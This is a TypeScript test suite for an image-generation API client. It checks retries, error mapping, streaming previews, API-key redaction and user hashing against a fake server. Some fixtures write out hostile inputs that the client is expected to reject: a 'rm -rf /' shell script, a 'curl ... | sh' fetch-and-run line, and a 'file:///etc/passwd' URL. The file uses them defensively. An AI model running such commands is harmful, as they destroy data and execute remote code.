import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createImagesClient, mapUsage, type ImagesClientOptions } from '#core/images/client.js';
import { decodeBase64Image, ImageDataError } from '#core/images/decode.js';
import { checkImage } from '#core/images/image-check.js';
import { buildParams } from '#core/images/params.js';
import { ImagesApiError, type PartialImage } from '#core/images/types.js';
import { hashUser } from '#core/images/user-hash.js';
import { createLogger } from '#core/log.js';
import type { ImageRequest } from '#core/request.js';
import { startFakeImagesApi, type FakeImagesApi } from './fakes/images-api.js';
import sharp from 'sharp';
import { pngDimensions, solidPng } from './fakes/png.js';

const key = 'sk-test-0123456789-very-secret';
// Deliberately no secrets given to the logger: the client itself must keep the key out of its lines.
const logLines: string[] = [];
const logger = createLogger({
  level: 'trace',
  destination: { write: (line) => logLines.push(line) },
});
const errorMessages: string[] = [];

let fake: FakeImagesApi;
beforeEach(async () => {
  fake = await startFakeImagesApi({ apiKey: key });
});
afterEach(async () => {
  await fake.close();
});

const client = (overrides: Partial<ImagesClientOptions> = {}) =>
  createImagesClient({
    baseUrl: fake.baseUrl,
    apiKey: key,
    timeoutMs: 2_000,
    maxRetries: 2,
    retryBaseDelayMs: 5,
    retryMaxDelayMs: 20,
    downloadTimeoutMs: 2_000,
    logger,
    ...overrides,
  });

const request = (overrides: Partial<ImageRequest> = {}): ImageRequest => ({
  prompt: 'a red fox in the snow',
  model: 'gpt-image-1',
  size: '1024x1024',
  count: 1,
  ...overrides,
});

/** The ImagesApiError a call fails with; fails the test when the call succeeds or throws anything else. */
const failure = async (promise: Promise<unknown>): Promise<ImagesApiError> => {
  const error = await promise.then(
    () => expect.unreachable('the call should have failed'),
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(ImagesApiError);
  errorMessages.push((error as Error).message);
  return error as ImagesApiError;
};

const sentImages = (index = 0) => fake.requests[index]?.images ?? [];

describe('images client: answers', () => {
  it('decodes b64_json images, sniffs their type and maps usage', async () => {
    const result = await client().generate(request({ count: 2, size: '1536x1024' }));
    expect(result.attempts).toBe(1);
    expect(result.images.map((image) => image.bytes)).toEqual(sentImages());
    expect(result.images.map((image) => image.contentType)).toEqual(['image/png', 'image/png']);
    expect(pngDimensions(result.images[0]?.bytes ?? Buffer.alloc(0))).toEqual({
      width: 1536,
      height: 1024,
    });
    const usage = result.usage;
    expect(usage?.inputTokens).toBeGreaterThan(0);
    expect(usage?.totalTokens).toBe((usage?.inputTokens ?? 0) + (usage?.outputTokens ?? 0));
  });

  it('downloads url-only items without sending the API key to the download host', async () => {
    fake.setResponseMode('url');
    const result = await client().generate(request());
    expect(result.images[0]?.bytes).toEqual(sentImages()[0]);
    expect(fake.downloads).toHaveLength(1);
    expect(fake.downloads[0]?.headers.authorization).toBeUndefined();
  });

  it('prefers b64_json when an item carries both, downloading nothing', async () => {
    fake.setResponseMode('both');
    const result = await client().generate(request());
    expect(result.images[0]?.bytes).toEqual(sentImages()[0]);
    expect(fake.downloads).toHaveLength(0);
  });

  it('returns revised_prompt and no usage for dall-e-3', async () => {
    fake.setResponseMode('url');
    const result = await client().generate(
      request({ model: 'dall-e-3', quality: 'hd', style: 'vivid' }),
    );
    expect(result.images[0]?.revisedPrompt).toContain('a red fox in the snow');
    expect(result.usage).toBeUndefined();
  });

  it('sends exactly the options the request holds, n from count, and the user hash', async () => {
    const user = hashUser('salt', 'discord', '123456789012345678');
    await client().generate(
      request({
        count: 3,
        quality: 'high',
        background: 'transparent',
        outputFormat: 'webp',
        moderation: 'low',
      }),
      { user },
    );
    expect(fake.requests[0]?.body).toEqual({
      prompt: 'a red fox in the snow',
      model: 'gpt-image-1',
      n: 3,
      size: '1024x1024',
      quality: 'high',
      background: 'transparent',
      output_format: 'webp',
      moderation: 'low',
      user,
      stream: false,
    });
  });

  it('sends a Korean, emoji and multi-line prompt byte for byte', async () => {
    const prompt = '햇살이 비치는 정원에서 달리는 작은 고양이 🐈‍⬛✨\n영화적인 느낌,\r\n높은 디테일';
    await client().generate(request({ prompt }));
    const raw = fake.requests[0]?.rawBody ?? Buffer.alloc(0);
    expect(
      raw.includes(Buffer.from('햇살이 비치는 정원에서 달리는 작은 고양이 🐈‍⬛✨', 'utf8')),
    ).toBe(true);
    expect(JSON.parse(raw.toString('utf8')).prompt).toBe(prompt);
  });

  it('streams previews as they arrive, then returns the final images', async () => {
    const previews: PartialImage[] = [];
    const result = await client().generate(request({ count: 2 }), {
      partialImages: 2,
      onPartialImage: (image) => previews.push(image),
    });
    expect(fake.requests[0]?.body).toMatchObject({ stream: true, partial_images: 2 });
    expect(previews.map((preview) => [preview.imageIndex, preview.partialIndex])).toEqual([
      [0, 0],
      [0, 1],
      [1, 0],
      [1, 1],
    ]);
    expect(previews.every((preview) => preview.contentType === 'image/png')).toBe(true);
    expect(previews[0]?.bytes).not.toEqual(result.images[0]?.bytes);
    expect(result.images.map((image) => image.bytes)).toEqual(sentImages());
    expect(result.usage?.totalTokens).toBe(
      (result.usage?.inputTokens ?? 0) + (result.usage?.outputTokens ?? 0),
    );
  });

  it('does not stream a model that cannot, even when previews are asked for', async () => {
    const previews: PartialImage[] = [];
    await client().generate(request({ model: 'dall-e-2', size: '256x256' }), {
      partialImages: 2,
      onPartialImage: (image) => previews.push(image),
    });
    expect(fake.requests[0]?.body?.stream).toBe(false);
    expect(fake.requests[0]?.body?.partial_images).toBeUndefined();
    expect(previews).toEqual([]);
  });

  it('finishes the generation when a preview callback throws', async () => {
    const result = await client().generate(request(), {
      partialImages: 1,
      onPartialImage: () => {
        throw new Error('the chat message could not be edited');
      },
    });
    expect(result.images).toHaveLength(1);
  });
});

describe('images client: retries', () => {
  it('retries 500 twice, then succeeds on the third attempt', async () => {
    fake.failNext(2, { type: 'serverError', status: 500 });
    const result = await client().generate(request());
    expect(result.attempts).toBe(3);
    expect(fake.requests).toHaveLength(3);
  });

  it.each([502, 503, 504] as const)('retries a %i', async (status) => {
    fake.failNext(1, { type: 'serverError', status });
    expect((await client().generate(request())).attempts).toBe(2);
  });

  it('gives up on a lasting 500 after the allowed retries, as upstream', async () => {
    fake.setFault({ type: 'serverError', status: 500 });
    const error = await failure(client({ maxRetries: 2 }).generate(request()));
    expect(error.kind).toBe('upstream');
    expect(error.details).toMatchObject({ attempts: 3, status: 500 });
  });

  it('waits as long as retry-after-ms says before retrying a 429', async () => {
    fake.failNext(1, { type: 'rateLimited', retryAfterMs: 300, retryAfter: '60' });
    const started = performance.now();
    const result = await client().generate(request());
    expect(result.attempts).toBe(2);
    expect(performance.now() - started).toBeGreaterThanOrEqual(290);
  });

  it('stops retrying a 429 whose retry-after exceeds the time budget', async () => {
    fake.failNext(1, { type: 'rateLimited', retryAfter: '30' });
    const error = await failure(client({ retryBudgetMs: 5_000 }).generate(request()));
    expect(error.kind).toBe('rateLimited');
    expect(error.details).toMatchObject({ attempts: 1, status: 429 });
  });

  it('reports rateLimited once retries of a lasting 429 run out', async () => {
    fake.setFault({ type: 'rateLimited', retryAfterMs: 1 });
    const error = await failure(client({ maxRetries: 1 }).generate(request()));
    expect(error.kind).toBe('rateLimited');
    expect(error.details.attempts).toBe(2);
  });

  it('retries a connection that was refused before anything was sent', async () => {
    const closed = createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const { port } = closed.address() as AddressInfo;
    await new Promise((resolve) => closed.close(resolve));
    const error = await failure(
      client({ baseUrl: `http://127.0.0.1:${port}/v1` }).generate(request()),
    );
    expect(error.kind).toBe('upstream');
    expect(error.message).toContain('ECONNREFUSED');
    expect(error.details.attempts).toBe(3);
  });

  it('does not retry a request that timed out after it was sent', async () => {
    fake.setFault({ type: 'hang' });
    const error = await failure(client({ timeoutMs: 300 }).generate(request()));
    expect(error.kind).toBe('timeout');
    expect(error.details.attempts).toBe(1);
    expect(fake.requests).toHaveLength(1);
  });

  it('stops at once when the caller aborts during a retry wait', async () => {
    fake.failNext(1, { type: 'rateLimited', retryAfterMs: 10_000 });
    const controller = new AbortController();
    const pending = client({ retryBudgetMs: 60_000 }).generate(request(), {
      signal: controller.signal,
    });
    await fake.received(1);
    controller.abort();
    const error = await failure(pending);
    expect(error.kind).toBe('aborted');
    expect(error.details.attempts).toBe(1);
    expect(fake.requests).toHaveLength(1);
  });

  it('reports aborted when the caller aborts a hanging request', async () => {
    fake.setFault({ type: 'hang' });
    const controller = new AbortController();
    const pending = client().generate(request(), { signal: controller.signal });
    await fake.received(1);
    controller.abort();
    const error = await failure(pending);
    expect(error.kind).toBe('aborted');
    expect(error.details.attempts).toBe(1);
  });

  it('makes no attempt for a signal already aborted', async () => {
    const error = await failure(client().generate(request(), { signal: AbortSignal.abort() }));
    expect(error.kind).toBe('aborted');
    expect(error.details.attempts).toBe(0);
    expect(fake.requests).toHaveLength(0);
  });
});

describe('images client: refusals and broken answers', () => {
  it.each(['moderation_blocked', 'content_policy_violation'] as const)(
    'maps a 400 %s to contentPolicy without retrying',
    async (code) => {
      fake.failNext(1, { type: 'moderation', code });
      const error = await failure(client().generate(request()));
      expect(error.kind).toBe('contentPolicy');
      expect(error.details).toMatchObject({ attempts: 1, status: 400, providerCode: code });
    },
  );

  it('maps another 400 to invalidRequest naming the parameter', async () => {
    fake.failNext(1, { type: 'badRequest', param: 'size' });
    const error = await failure(client().generate(request()));
    expect(error.kind).toBe('invalidRequest');
    expect(error.details).toMatchObject({ attempts: 1, param: 'size' });
    expect(error.message).toContain('size');
  });

  it.each([401, 403] as const)('maps %i to authentication without retrying', async (status) => {
    fake.failNext(1, { type: 'unauthorized', status });
    const error = await failure(client().generate(request()));
    expect(error.kind).toBe('authentication');
    expect(error.details).toMatchObject({ attempts: 1, status });
  });

  it('maps a wrong key to authentication', async () => {
    const error = await failure(client({ apiKey: 'sk-wrong-key' }).generate(request()));
    expect(error.kind).toBe('authentication');
    expect(error.details.attempts).toBe(1);
  });

  it('keeps the key out of the error when the server echoes it', async () => {
    const body = JSON.stringify({
      error: { message: `Incorrect API key provided: ${key}`, code: 'invalid_api_key' },
    });
    fake.failNext(1, { type: 'customBody', status: 401, body });
    const error = await failure(client().generate(request()));
    expect(error.kind).toBe('authentication');
    expect(error.message).toContain('[redacted]');
    expect(error.message).not.toContain(key);
  });

  it('maps malformed JSON to upstream without retrying', async () => {
    fake.failNext(1, { type: 'malformedJson' });
    const error = await failure(client().generate(request()));
    expect(error.kind).toBe('upstream');
    expect(error.details.attempts).toBe(1);
  });

  it('maps a truncated body to upstream without retrying', async () => {
    fake.failNext(1, { type: 'truncatedBody' });
    const error = await failure(client().generate(request()));
    expect(error.kind).toBe('upstream');
    expect(error.details.attempts).toBe(1);
  });

  it('maps a stream cut before its completed event to upstream', async () => {
    fake.failNext(1, { type: 'truncatedBody' });
    const error = await failure(client().generate(request(), { partialImages: 2 }));
    expect(error.kind).toBe('upstream');
    expect(error.details.attempts).toBe(1);
  });

  it('refuses a url image larger than the download cap', async () => {
    fake.failNext(1, { type: 'oversizeImage', bytes: 200_000 });
    const error = await failure(client({ maxDownloadBytes: 64 * 1024 }).generate(request()));
    expect(error.kind).toBe('tooLarge');
    expect(error.message).toContain(`larger than ${64 * 1024} bytes`);
    expect(error.details.attempts).toBe(1);
  });

  it('times out a url download that never answers, without retrying', async () => {
    fake.failNext(1, { type: 'hangDownload' });
    const error = await failure(client({ downloadTimeoutMs: 300 }).generate(request()));
    expect(error.kind).toBe('timeout');
    expect(error.details.attempts).toBe(1);
    expect(fake.requests).toHaveLength(1);
  });

  it.each([
    ['no data', '{"created": 1}', 'without any image'],
    ['empty data', '{"created": 1, "data": []}', 'without any image'],
    ['an item with neither field', '{"created": 1, "data": [{}]}', 'neither b64_json nor url'],
    ['bad base64', '{"created": 1, "data": [{"b64_json": "@@not base64@@"}]}', 'not valid base64'],
    [
      'a url that is not http',
      '{"created": 1, "data": [{"url": "file:///etc/passwd"}]}',
      'not http(s)',
    ],
  ])('fails clearly on an answer with %s', async (_, body, message) => {
    fake.failNext(1, { type: 'customBody', body });
    const error = await failure(client().generate(request()));
    expect(error.kind).toBe('upstream');
    expect(error.message).toContain(message);
  });

  it.each(['b64_json', 'url'] as const)(
    'fails, without retrying, when the image sent as %s is not an image',
    async (mode) => {
      fake.setResponseMode(mode);
      fake.failNext(1, { type: 'notAnImage', bytes: Buffer.from('#!/bin/sh\nrm -rf /\n') });
      const error = await failure(client().generate(request({ count: 2 })));
      expect(error.kind).toBe('upstream');
      expect(error.message).toContain('not an image');
      expect(fake.requests).toHaveLength(1);
    },
  );
});

describe('images client: pure mapping', () => {
  it('accepts PNG, JPEG and WebP by decoding them, whatever their bytes claim', async () => {
    const png = solidPng({ width: 8, height: 6 }, 'check');
    expect((await checkImage(png)).contentType).toBe('image/png');
    expect((await checkImage(await sharp(png).jpeg().toBuffer())).contentType).toBe('image/jpeg');
    expect((await checkImage(await sharp(png).webp().toBuffer())).contentType).toBe('image/webp');
  });

  it.each([
    ['a shell script', Buffer.from('#!/bin/sh\ncurl http://10.0.0.1/ | sh\n')],
    ['an HTML page', Buffer.from('<html><body>internal dashboard</body></html>')],
    ['a GIF', Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64')],
    ['a PNG cut short', solidPng({ width: 64, height: 64 }, 'cut').subarray(0, 60)],
    [
      'a PNG signature over garbage',
      Buffer.concat([
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
        Buffer.alloc(64, 7),
      ]),
    ],
  ])('refuses %s as an upstream failure', async (_, bytes) => {
    const error = await checkImage(bytes).then(
      () => expect.unreachable('accepted'),
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(ImageDataError);
    expect((error as ImageDataError).kind).toBe('upstream');
    expect((error as Error).message).toContain('not an image');
  });

  it('decodes strict base64 and refuses anything else', () => {
    expect(decodeBase64Image('aGVs\nbG8=')).toEqual(Buffer.from('hello'));
    for (const bad of ['', 'abc$', 'a', 42, undefined]) {
      expect(() => decodeBase64Image(bad)).toThrow(ImageDataError);
    }
  });

  it('maps usage, computing a missing total and ignoring unreadable values', () => {
    expect(mapUsage({ total_tokens: 30, input_tokens: 10, output_tokens: 20 })).toEqual({
      totalTokens: 30,
      inputTokens: 10,
      outputTokens: 20,
    });
    expect(mapUsage({ input_tokens: 10, output_tokens: 20 })?.totalTokens).toBe(30);
    expect(mapUsage({ total_tokens: 'many' })).toBeUndefined();
    expect(mapUsage(undefined)).toBeUndefined();
  });

  it('builds a body with only the options the request holds, clamping previews to 3', () => {
    expect(buildParams(request(), {})).toEqual({
      prompt: 'a red fox in the snow',
      model: 'gpt-image-1',
      n: 1,
      size: '1024x1024',
    });
    expect(buildParams(request({ style: 'vivid' }), { user: 'u', partialImages: 7 })).toMatchObject(
      {
        style: 'vivid',
        user: 'u',
        stream: true,
        partial_images: 3,
      },
    );
  });
});

describe('images client: options and secrets', () => {
  it('hashes users stably, per salt and platform, without the id inside', () => {
    const id = '123456789012345678';
    const hash = hashUser('salt-a', 'discord', id);
    expect(hashUser('salt-a', 'discord', id)).toBe(hash);
    expect(hashUser('salt-b', 'discord', id)).not.toBe(hash);
    expect(hashUser('salt-a', 'slack', id)).not.toBe(hash);
    expect(hashUser('salt-a', 'discord', '123456789012345679')).not.toBe(hash);
    expect(hash).not.toContain(id);
    expect(hash).toMatch(/^[\w-]{43}$/);
  });

  // Declared last, so it runs after every test above and sees all their lines and messages.
  it('never wrote the API key to a log line or an error message', () => {
    expect(logLines.length).toBeGreaterThan(10);
    expect(errorMessages.length).toBeGreaterThan(10);
    for (const text of [...logLines, ...errorMessages]) expect(text).not.toContain(key);
  });
});
